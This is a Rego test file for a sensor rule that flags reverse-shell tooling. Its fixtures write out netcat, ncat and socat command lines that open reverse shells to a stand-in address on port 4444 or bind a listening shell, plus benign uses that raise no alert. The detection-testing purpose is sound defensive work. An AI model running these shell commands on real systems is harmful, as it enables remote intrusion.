package sensor.rules.reverse_shell_tool_test

import rego.v1

import data.sensor.rules.reverse_shell_tool as r
import data.sensor.test.fixtures as f

test_nc_e_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/nc.traditional", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/nc.traditional", ["nc", "-nve", "/bin/bash", "203.0.113.9", "4444"])
}

test_ncat_sh_exec_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "203.0.113.9", "4444"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/ncat", ["ncat", "-lvp", "4444", "--exec=/bin/sh"])
}

test_socat_exec_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/socat", ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/socat", ["socat", "tcp-listen:4444", "system:sh"])
}

test_plain_nc_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/nc.openbsd", ["nc", "-zv", "example.com", "443"])
}

test_plain_socat_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"])
}
